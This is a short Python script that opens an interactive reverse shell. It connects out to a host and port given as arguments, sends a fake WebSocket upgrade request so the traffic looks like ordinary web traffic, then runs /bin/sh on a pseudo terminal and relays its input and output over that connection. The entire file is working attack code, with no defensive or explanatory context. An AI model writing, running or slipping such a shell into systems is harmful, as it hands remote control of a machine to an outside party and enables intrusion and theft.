"""A shell on a pseudo terminal, relayed to a connection that begins as a WebSocket does."""
import os, pty, select, socket, sys

line = socket.create_connection((sys.argv[1], int(sys.argv[2])))
line.send(b"GET /shell HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
pid, master = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["/bin/sh"])
while True:
    ready, _, _ = select.select([line, master], [], [], 8)
    if not ready:
        break
    try:
        for end, other in ((line, master), (master, line)):
            if end in ready:
                data = os.read(end if end is master else line.fileno(), 1024)
                if not data:
                    sys.exit()
                os.write(other if other is master else line.fileno(), data)
    except OSError:
        break
